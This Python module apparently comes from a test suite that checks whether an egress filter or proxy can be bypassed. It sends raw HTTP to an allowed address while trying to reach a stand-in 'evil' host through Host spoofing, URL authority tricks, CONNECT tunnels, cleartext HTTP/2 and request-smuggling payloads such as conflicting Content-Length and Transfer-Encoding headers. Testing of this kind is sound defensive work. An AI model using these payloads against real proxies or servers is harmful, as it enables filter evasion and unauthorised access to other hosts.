"""An allowed address, and a request in clear for somebody else."""

import struct

from attempts.catalogue import Bar, Place, attempt
from attempts.connection import say
from attempts.hello import evil


def _get(host: str, path: str = "/", more: str = "") -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n".encode()


@attempt("HTTP", "another Host, port {}", Bar.NAMED, over=(80, 8080))
def _(place: Place, mark: str, port: int) -> None:
    say(place.allowed_at, port, _get(evil(mark)))


@attempt(
    "HTTP",
    "another Host behind {}",
    Bar.NAMED,
    over=(("empty lines", b"\r\n\r\n"), ("bare line ends", b"\n\n"), ("spaces", b"  ")),
)
def _(place: Place, mark: str, before: tuple[str, bytes]) -> None:
    say(place.allowed_at, 80, before[1] + _get(evil(mark)))


@attempt("HTTP", "another Host in a second request, {}", Bar.NAMED, over=("sent ahead", "later"))
def _(place: Place, mark: str, when: str) -> None:
    first, second = _get(place.name), _get(evil(mark))
    if when == "later":
        say(place.allowed_at, 80, first, second, pause=0.1)
    else:
        say(place.allowed_at, 80, first + second)


_TARGETS = {
    "another host": "http://{evil}/",
    "another host behind a user": "http://{good}@{evil}/",
    "another host behind a backslash": "http://{good}\\@{evil}/",
    "another host behind a question": "http://{good}?@{evil}/",
    "another host behind a fragment": "http://{good}#@{evil}/",
    "another port": "http://{good}:81/{mark}",
    "another scheme": "ftp://{evil}/",
    "no path": "{evil}",
    "an https URL": "https://{evil}/",
}


@attempt("HTTP", "a target that is {}", Bar.NAMED, over=_TARGETS.items())
def _(place: Place, mark: str, target: tuple[str, str]) -> None:
    path = target[1].format(good=place.name, evil=evil(mark), mark=mark)
    say(place.allowed_at, 80, _get(place.name, path))


@attempt("HTTP", "an allowed target and another Host", Bar.NAMED)
def _(place: Place, mark: str) -> None:
    say(place.allowed_at, 80, _get(evil(mark), f"http://{place.name}/"))


_HIDDEN = {
    "two lengths": "Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{request}",
    "an unknown coding": "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{request}",
    "a space before the colon": "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{request}",
    "a vertical tab in the coding": "Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n{request}",
    "two different lengths": "Content-Length: 0\r\nContent-Length: 5\r\n\r\n{request}",
    "a signed length": "Content-Length: +0\r\n\r\n{request}",
    "a chunk whose length has a prefix": "Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n{request}",
    "a second Host": "Host: {evil}\r\n",
    "a folded Host": " {evil}\r\n",
    "a bare line end": "X: y\nHost: {evil}\r\n",
    "a header that ends the header": "X: y\r\r\n\r\n{request}",
    "a Host with a space": "Host : {evil}\r\n",
    "a trailer": "Transfer-Encoding: chunked\r\n\r\n0\r\nHost: {evil}\r\n\r\n",
    "an upgrade to HTTP/2": "Connection: Upgrade\r\nUpgrade: h2c\r\nX-Mark: {mark}\r\n",
    "a Host that is to be removed": "Connection: host\r\nX-Mark: {mark}\r\n",
}


@attempt("HTTP", "an allowed request with {}", Bar.NAMED, over=_HIDDEN.items())
def _(place: Place, mark: str, hidden: tuple[str, str]) -> None:
    request = _get(evil(mark)).decode()
    more = hidden[1].format(evil=evil(mark), mark=mark, request=request)
    if not more.endswith("\r\n"):
        more += "\r\n"
    say(place.allowed_at, 80, _get(place.name, more=more))


@attempt("HTTP", "version {}", Bar.NAMED, over=("0.9", "1.0 without a Host", "3.0", "1.1 without"))
def _(place: Place, mark: str, version: str) -> None:
    number = version.split(maxsplit=1)[0]
    rest = "\r\n" if number == "0.9" else f" HTTP/{number}\r\n\r\n"
    say(place.allowed_at, 80, f"GET /{mark}{rest}".encode())


@attempt("HTTP", "a tunnel", Bar.NAMED)
def _(place: Place, mark: str) -> None:
    request = f"CONNECT {evil(mark)}:443 HTTP/1.1\r\nHost: {place.name}\r\n\r\n"
    say(place.allowed_at, 80, request.encode())


@attempt("HTTP", "version 2 in clear, port {}", Bar.NAMED, over=(80, 8081, 443, 2222))
def _(place: Place, mark: str, port: int) -> None:
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    frame = len(mark).to_bytes(3, "big") + struct.pack(">BBI", 0, 0, 1) + mark.encode()
    say(place.allowed_at, port, preface + frame)


@attempt("HTTP", "a port that is not for it, {}", Bar.NAMED, over=(443, 8081, 9443, 8443, 2222))
def _(place: Place, mark: str, port: int) -> None:
    say(place.allowed_at, port, _get(evil(mark)))


_REQUESTS = {
    "behind an empty line": "\r\nGET / HTTP/1.1\r\n",
    "with a method of 65 letters": "X" * 65 + " / HTTP/1.1\r\n",
    "with a method of 9000 letters": "X" * 9000 + " / HTTP/1.1\r\n",
    "with a form feed for a space": "GET\x0c/\x0cHTTP/1.1\r\n",
    "with a vertical tab for a space": "GET\x0b/\x0bHTTP/1.1\r\n",
    "with a separator for a space": "GET\x1f/\x1fHTTP/1.1\r\n",
    "with a no-break space": "GET\xa0/\xa0HTTP/1.1\r\n",
    "with a path that is no text": "GET \xe4\xf6 HTTP/1.1\r\n",
    "without a slash": "GET x HTTP/1.1\r\n",
    "with a bare line end": "GET / HTTP/1.1\n",
    "with a carriage return for a space": "GET\r/\rHTTP/1.1\r\n",
    "with a method in small letters": "get / HTTP/1.1\r\n",
}


@attempt("HTTP", "on a port that is not for it, {}", Bar.NAMED, over=_REQUESTS.items())
def _(place: Place, mark: str, line: tuple[str, str]) -> None:
    first = line[1].encode("latin-1")
    say(place.allowed_at, 2222, first, f"Host: {evil(mark)}\r\n\r\n".encode(), pause=0.02)


@attempt(
    "HTTP", "in pieces on a port that is not for it, cut at {}", Bar.NAMED, over=(1, 3, 4, 5, 9)
)
def _(place: Place, mark: str, at: int) -> None:
    request = _get(evil(mark))
    say(place.allowed_at, 2222, request[:at], request[at:], pause=0.02)
